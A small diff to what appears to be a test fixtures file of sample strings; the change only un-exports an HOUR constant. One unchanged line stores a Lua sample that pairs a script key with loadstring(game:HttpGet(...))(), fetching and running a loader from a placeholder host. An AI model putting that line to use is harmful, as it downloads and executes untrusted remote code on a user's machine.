@@ -8,7 +8,7 @@ export const LONG = `${SENTENCE}, with_a_word_that_no_line_can_break_because_it_
 export const ARABIC = 'مفتاح للصديق الأول في الحديقة'
 export const KEY = 'HUB-7KQ2M-W3TDA-0NVRS-XP4'
 export const CODE = 'script_key = "HUB-7KQ2M"\nloadstring(game:HttpGet("https://ward.example.org/loader"))()'
-export const HOUR = 3_600_000
+const HOUR = 3_600_000
 /** A fixed hour, so that pictures of the page are alike. */
 export const AT = Date.UTC(2026, 0, 5, 12)
 
